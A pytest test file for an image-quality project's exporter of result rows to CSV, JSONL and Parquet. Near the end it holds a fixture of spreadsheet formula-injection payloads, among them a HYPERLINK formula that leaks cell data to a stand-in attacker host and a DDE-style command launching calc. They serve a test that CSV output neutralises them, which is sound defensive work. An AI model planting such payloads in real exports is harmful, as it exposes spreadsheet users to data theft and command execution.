"""Exporting rows: CSV, JSONL and Parquet, streamed, with missing values as empty or null."""

from __future__ import annotations

import csv
import json
import math
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from agentic_iqa.reports.export import ROW_COLUMNS, export_columns, tool_column, write_rows

REPO = Path(__file__).resolve().parents[3]

COLUMNS = export_columns(["NIQE", "BRISQUE"])
ROWS: list[dict[str, Any]] = [
    {
        "item_id": "a.jpg",
        "line": 2,
        "image": Path("/data/a.jpg"),
        "status": "done",
        "quality_score": 3.25,
        "mos": 61.5,
        "correct": True,
        "fallbacks": 0,
        "tools": "BRISQUE;NIQE",
        "tool:BRISQUE": 3.5,
        "tool:NIQE": 2.75,
        "not_exported": 1,
    },
    {
        "item_id": "b.jpg",
        "line": 3,
        "image": "/data/b.jpg",
        "status": "failed",
        "error": 'tool "NIQE" failed,\nbadly',
        "quality_score": math.nan,
        "mos": None,
        "correct": None,
        "fallbacks": 2,
        "tool:BRISQUE": None,
    },
]


def test_columns_are_the_row_format_then_sorted_tools() -> None:
    expected = [*ROW_COLUMNS, "tool:BRISQUE", "tool:NIQE"]
    assert export_columns(["NIQE", "BRISQUE", "NIQE"]) == expected
    assert tool_column("NIQE") == "tool:NIQE"


def test_csv_has_the_header_and_empty_cells_for_missing_values(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert write_rows(iter(ROWS), path, "csv", COLUMNS) == 2
    with path.open(newline="", encoding="utf-8") as handle:
        first, second = csv.DictReader(handle)
    assert list(first) == COLUMNS
    assert first["image"] == "/data/a.jpg" and first["quality_score"] == "3.25"
    assert first["correct"] == "True" and first["reference"] == ""
    assert second["error"] == 'tool "NIQE" failed,\nbadly'
    assert second["quality_score"] == "" and second["mos"] == "" and second["tool:NIQE"] == ""
    assert not list(tmp_path.glob(".*partial"))


def test_jsonl_has_nulls_for_missing_values(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    write_rows(ROWS, path, "jsonl", COLUMNS)
    first, second = (json.loads(line) for line in path.read_text("utf-8").splitlines())
    assert list(first) == COLUMNS and "not_exported" not in first
    assert first["correct"] is True and first["tool:NIQE"] == 2.75 and first["line"] == 2
    assert second["quality_score"] is None and second["correct"] is None
    assert second["tool:NIQE"] is None


def test_parquet_is_typed_with_nulls(tmp_path: Path) -> None:
    path = tmp_path / "out.parquet"
    write_rows(ROWS, path, "parquet", COLUMNS)
    table = pq.read_table(path)
    assert table.column_names == COLUMNS
    types = {field.name: str(field.type) for field in table.schema}
    assert types["line"] == "int64" and types["mos"] == "double" and types["correct"] == "bool"
    assert types["tool:BRISQUE"] == "double" and types["item_id"] == "string"
    rows = table.to_pylist()
    assert rows[0]["image"] == "/data/a.jpg" and rows[0]["tool:BRISQUE"] == 3.5
    assert rows[1]["quality_score"] is None and rows[1]["mos"] is None
    assert rows[1]["reference"] is None and rows[1]["fallbacks"] == 2


def generated(n: int, query_chars: int = 0) -> Iterator[dict[str, Any]]:
    """``n`` rows; ``query_chars``: a query of that length, different on every row."""
    for i in range(n):
        query = (
            (
                f"item {i}: is it sharp? "
                + "Look at every edge and texture. " * (query_chars // 32 + 1)
            )[:query_chars]
            if query_chars
            else None
        )
        yield {
            "item_id": f"item-{i:05d}",
            "line": i + 2,
            "image": f"/data/{i:05d}.jpg",
            "status": "done",
            "quality_score": 1 + (i % 400) / 100,
            "mos": float(i % 100),
            "tools": "BRISQUE",
            "tool:BRISQUE": 2.5,
            "final_answer": "Good " * 20,
            "query": query,
        }


#: Run in a fresh process: write ``n`` rows of about 1 kB each (a query of its own on each
#: row) and print the process's peak resident memory in KiB.  A small export
#: first pays for the lazy imports and buffers, so both sizes start from the same point.
_PEAK_RSS = """
import sys
from pathlib import Path
from agentic_iqa.reports.export import write_rows
from tests.agentic_iqa.reports.test_export import COLUMNS, generated, peak_rss_kib
n, fmt, path = int(sys.argv[1]), sys.argv[2], Path(sys.argv[3])
write_rows(generated(600, query_chars=1000), path.with_name("warm-up." + fmt), fmt, COLUMNS,
           batch_size=500)
written = write_rows(generated(n, query_chars=1000), path, fmt, COLUMNS, batch_size=500)
print(written, peak_rss_kib())
"""


def peak_rss_kib() -> int:
    """This process's peak resident memory, KiB: VmHWM, which starts afresh at exec (Linux's
    ru_maxrss does not: a child of a large pytest process would report the parent's peak)."""
    status = Path("/proc/self/status")
    if status.is_file():
        for line in status.read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    import resource

    return int(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)


def peak_rss_writing(n: int, fmt: str, path: Path) -> int:
    """Peak resident memory (KiB) of a process that exported ``n`` rows to ``path``."""
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")])),
    }
    result = subprocess.run(
        [sys.executable, "-c", _PEAK_RSS, str(n), fmt, str(path)],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    written, peak = map(int, result.stdout.split())
    assert written == n
    return peak


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_writing_streams_in_flat_memory(tmp_path: Path, fmt: str) -> None:
    """Ten times the rows, the same peak memory: rows are written in batches, never held.

    Holding 9,000 more rows of about 1 kB would add over 10 MiB; a 500-row batch is the same
    at both sizes.  Peak RSS of two fresh processes, so allocations outside Python (pyarrow's
    buffers) count too.
    """
    small = peak_rss_writing(1_000, fmt, tmp_path / f"small.{fmt}")
    large = peak_rss_writing(10_000, fmt, tmp_path / f"large.{fmt}")
    growth = (large - small) / 1024
    assert growth < 4, (
        f"peak RSS {small / 1024:.1f} MiB for 1,000 rows, {large / 1024:.1f} "
        f"MiB for 10,000: +{growth:.1f} MiB"
    )
    path = tmp_path / f"large.{fmt}"
    if fmt == "parquet":
        metadata = pq.ParquetFile(path).metadata
        assert (metadata.num_rows, metadata.num_row_groups) == (10_000, 20)
    else:
        assert path.read_text("utf-8").count("\n") >= 10_000


def test_a_failed_export_leaves_no_file(tmp_path: Path) -> None:
    def broken() -> Iterator[dict[str, Any]]:
        yield ROWS[0]
        raise RuntimeError("database went away")

    path = tmp_path / "out.csv"
    with pytest.raises(RuntimeError, match="went away"):
        write_rows(broken(), path, "csv", COLUMNS)
    assert list(tmp_path.iterdir()) == []


def test_a_value_that_does_not_fit_the_parquet_type_is_reported(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="rows 1-1 do not fit"):
        write_rows([{"mos": "high"}], tmp_path / "x.parquet", "parquet", COLUMNS)


def test_bad_arguments_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        write_rows(ROWS, tmp_path / "x.xlsx", "xlsx", COLUMNS)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="repeat"):
        write_rows(ROWS, tmp_path / "x.csv", "csv", ["item_id", "item_id"])


HOSTILE: dict[str, Any] = {
    "item_id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "line": 7,
    "image": "@SUM(1+1)",
    "reference": "\t=1+1",
    "query": "+cmd|' /C calc'!A0",
    "status": "failed",
    "error": "-2+3",
    "run_id": "\r=2",
    "final_answer": "=1",
    "quality_score": -1.5,
    "mos": -0.25,
    "answer_truth": "A",
    "correct": False,
    "severities": "Blurs=severe",
    "fallbacks": -1,
    "tools": "+BRISQUE",
    "tool:BRISQUE": -2.0,
}


def test_csv_neutralises_formula_text_in_every_text_column_and_keeps_numbers(
    tmp_path: Path,
) -> None:
    path = tmp_path / "out.csv"
    write_rows([HOSTILE], path, "csv", COLUMNS)
    with path.open(newline="", encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    for column in (
        "item_id",
        "image",
        "reference",
        "query",
        "error",
        "run_id",
        "final_answer",
        "tools",
    ):
        assert row[column] == "'" + HOSTILE[column], column
    assert row["severities"] == "Blurs=severe" and row["answer_truth"] == "A"
    assert row["status"] == "failed" and row["correct"] == "False"
    # Numbers are never formulas: a negative score, MOS or count is written as a plain number.
    assert (row["quality_score"], row["mos"], row["tool:BRISQUE"]) == ("-1.5", "-0.25", "-2.0")
    assert (row["line"], row["fallbacks"]) == ("7", "-1")
    # JSONL and Parquet are data formats: they keep the raw values.
    write_rows([HOSTILE], tmp_path / "out.jsonl", "jsonl", COLUMNS)
    write_rows([HOSTILE], tmp_path / "out.parquet", "parquet", COLUMNS)
    (as_json,) = (json.loads(line) for line in (tmp_path / "out.jsonl").open(encoding="utf-8"))
    (as_parquet,) = pq.read_table(tmp_path / "out.parquet").to_pylist()
    for raw in (as_json, as_parquet):
        assert raw["item_id"] == HOSTILE["item_id"] and raw["query"] == HOSTILE["query"]
        assert raw["reference"] == "\t=1+1" and raw["quality_score"] == -1.5


def test_the_query_column_holds_the_query_each_item_is_asked(engine, tmp_path: Path) -> None:
    """A row without its own query is asked the job's: the export says which, never blank."""
    from agentic_iqa.cli.eval import export_rows
    from agentic_iqa.jobs.spec import JobSpec
    from agentic_iqa.runtime import lifecycle

    image = Path(__file__).resolve().parents[3] / "examples" / "i03_blurred.png"
    manifest = tmp_path / "manifest.jsonl"
    manifest.write_text(
        json.dumps({"id": "own", "image": str(image), "query": "Is the sky noisy?"})
        + "\n"
        + json.dumps({"id": "default", "image": str(image)})
        + "\n",
        encoding="utf-8",
    )
    asked = lifecycle.submit(
        engine, JobSpec.build(manifest=manifest, query="Is it sharp?", check_images=False)
    )
    _columns, rows = export_rows(engine, asked)
    assert {row["item_id"]: row["query"] for row in rows} == {
        "own": "Is the sky noisy?",
        "default": "Is it sharp?",
    }
    implied = lifecycle.submit(engine, JobSpec.build(manifest=manifest, check_images=False))
    _columns, rows = export_rows(engine, implied)
    assert {row["item_id"]: row["query"] for row in rows} == {
        "own": "Is the sky noisy?",
        "default": "Rate the quality of this image.",
    }
    path = tmp_path / "rows.csv"
    write_rows(export_rows(engine, implied)[1], path, "csv", export_rows(engine, implied)[0])
    with path.open(newline="", encoding="utf-8") as handle:
        assert [row["query"] for row in csv.DictReader(handle)] == [
            "Is the sky noisy?",
            "Rate the quality of this image.",
        ]
